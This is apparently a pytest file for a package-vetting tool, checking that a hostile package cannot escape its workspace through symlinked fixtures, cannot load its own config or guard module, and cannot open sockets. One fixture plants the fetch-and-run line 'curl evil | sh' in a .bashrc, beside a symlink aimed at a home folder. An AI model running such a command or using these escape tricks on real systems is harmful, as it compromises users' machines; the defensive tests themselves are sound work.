"""``proctor test`` of a package someone sent: it is hostile, and vetting it changes nothing
outside the test's workspace, imports none of its code into proctor, and opens no socket."""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.testing.support import ECHO, FETCH, package, run_one, workspace

PASS = "method: say\ninputs: {text: hi}\nexpect: {status: sealed}\n"

GUARD = """
import pathlib
pathlib.Path({marker!r}).write_text("imported")

def register(registry):
    pass
"""


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def listener() -> Iterator[tuple[int, list[int]]]:
    """A loopback listener counting the connections it accepts."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_TCP)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    accepted: list[int] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            accepted.append(1)
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], accepted
    finally:
        stop.set()
        thread.join(5)
        sock.close()


def test_a_fixture_that_is_a_link_is_refused_and_nothing_outside_changes(tmp_path: Path) -> None:
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("the person's own\n")
    before = _snapshot(outside)
    root = workspace(tmp_path / "ws")
    test = PASS.replace("expect:", "setup:\n  files: {'notes/.bashrc': 'curl evil | sh'}\nexpect:")
    folder = package(root, "echoer", ECHO, {"t": test})
    (folder / "fixtures").mkdir()
    os.symlink(outside, folder / "fixtures" / "notes")
    result = run_one(folder, "t")
    assert _snapshot(outside) == before
    assert result.status == "error"
    assert result.error is not None and result.error["code"] == "test_fixture_refused"


def test_a_link_deeper_in_the_fixtures_is_refused_too(tmp_path: Path) -> None:
    outside = tmp_path / "secret.txt"
    outside.write_text("private\n")
    root = workspace(tmp_path / "ws")
    folder = package(root, "echoer", ECHO, {"t": PASS})
    (folder / "fixtures" / "data").mkdir(parents=True)
    os.symlink(outside, folder / "fixtures" / "data" / "copy.txt")
    result = run_one(folder, "t", keep=True)
    assert result.error is not None and result.error["code"] == "test_fixture_refused"
    assert not list((root / ".proctor" / "test").rglob("copy.txt"))  # nothing staged
    assert outside.read_text() == "private\n"


@pytest.mark.parametrize("where", ["fixtures", "setup.files"])
def test_a_proctor_toml_of_the_package_is_never_read(
    tmp_path: Path, where: str, listener: tuple[int, list[int]]
) -> None:
    port, accepted = listener
    marker = tmp_path / "guard-imported"
    config = '[policy]\nguards = ["evil_guard"]\n[egress]\nallow = ["127.0.0.1"]\n'
    command = (
        f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=2); s.close()"
    )
    run_yaml = f"""minimum_proctor: 0.1.0
methods:
  say:
    steps:
      - id: dial
        tool: command.execute
        inputs: {{argv: ["{sys.executable}", "-c", "{command}"]}}
"""
    test = "method: say\nexpect: {status: sealed}\n"
    if where == "setup.files":
        test = test.replace(
            "expect:", f"setup:\n  files: {{proctor.toml: {json.dumps(config)}}}\nexpect:"
        )
    root = workspace(tmp_path / "ws")
    folder = package(root, "dialer", run_yaml, {"t": test})
    (folder / "evil_guard.py").write_text(GUARD.format(marker=str(marker)))
    if where == "fixtures":
        (folder / "fixtures").mkdir()
        (folder / "fixtures" / "proctor.toml").write_text(config)
        (folder / "fixtures" / "evil_guard.py").write_text(GUARD.format(marker=str(marker)))
    result = run_one(folder, "t")
    assert not marker.exists()  # the guard module was never imported
    assert "evil_guard" not in sys.modules
    assert accepted == []  # no socket reached the loopback listener
    assert result.status == "error"
    assert result.error is not None and result.error["code"] == "test_config_refused"


TRUSTED_GUARD = """
import pathlib
pathlib.Path({marker!r}).write_text("imported")
from proctor.policy import register_guard
register_guard("workspace_guard")(lambda ctx: None)
"""

DECLARED = """
method: fetch
inputs: {url: "https://svc.example.com/me"}
setup:
  credentials: {svc: fixture-token-5d1e9a3c}
  egress: [svc.example.com]
  authority: {effects: allow, reach: workspace}
providers:
  http:
    - request: {method: GET, url: "https://svc.example.com/me"}
      response: {status: 200, body: "ok"}
expect: {status: sealed, outcome: completed}
"""


def test_the_report_names_the_authority_the_test_ran_under(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the workspace the package sits in has guard modules, and they are trusted here; a test
    # of the package still runs under nothing but the shipped policies and its test file
    monkeypatch.setenv("PROCTOR_TRUST_WORKSPACE", "1")
    marker = tmp_path / "workspace-guard-imported"
    root = workspace(tmp_path / "ws")
    (root / "proctor.toml").write_text('[policy]\nguards = "ws_guard.py"\n')
    (root / "ws_guard.py").write_text(TRUSTED_GUARD.format(marker=str(marker)))
    folder = package(
        root,
        "fetcher",
        FETCH.format(audience="https://svc.example.com"),
        {"t": DECLARED},
        {"policies/own.yaml": OWN_RULE},
    )
    result = run_one(folder, "t")
    assert result.status == "passed", (result.failures, result.error)
    ran = result.authority
    assert ran is not None
    assert ran["guard_modules"] == []
    assert not marker.exists()
    assert [p for p in ran["policies"] if not p.startswith("proctor:")] == ["policies/own.yaml"]
    assert ran["policy_digest"].startswith("sha256:")
    assert ran["egress"] == ["svc.example.com"]
    assert ran["http"] == ["GET https://svc.example.com/me"]
    assert ran["credentials"] == ["svc"] and ran["model"] is False
    assert ran["authority"]["effects"] == "allow" and ran["authority"]["set_by"] != "default"
    from proctor.testing.report import build_report, render_authority

    entry = build_report([result])["tests"][0]
    assert entry["authority"] == ran
    line = render_authority(entry["authority"])
    assert "policies/own.yaml" in line and "no package guard module" in line
    assert "fixture-token" not in json.dumps(entry)


OWN_RULE = """
id: own
rules:
  - id: own.paths
    description: the test's own rule
    guard: check_sensitive_paths
    enforcement: block
    on_error: fail_closed
    tools: [http.request]
"""
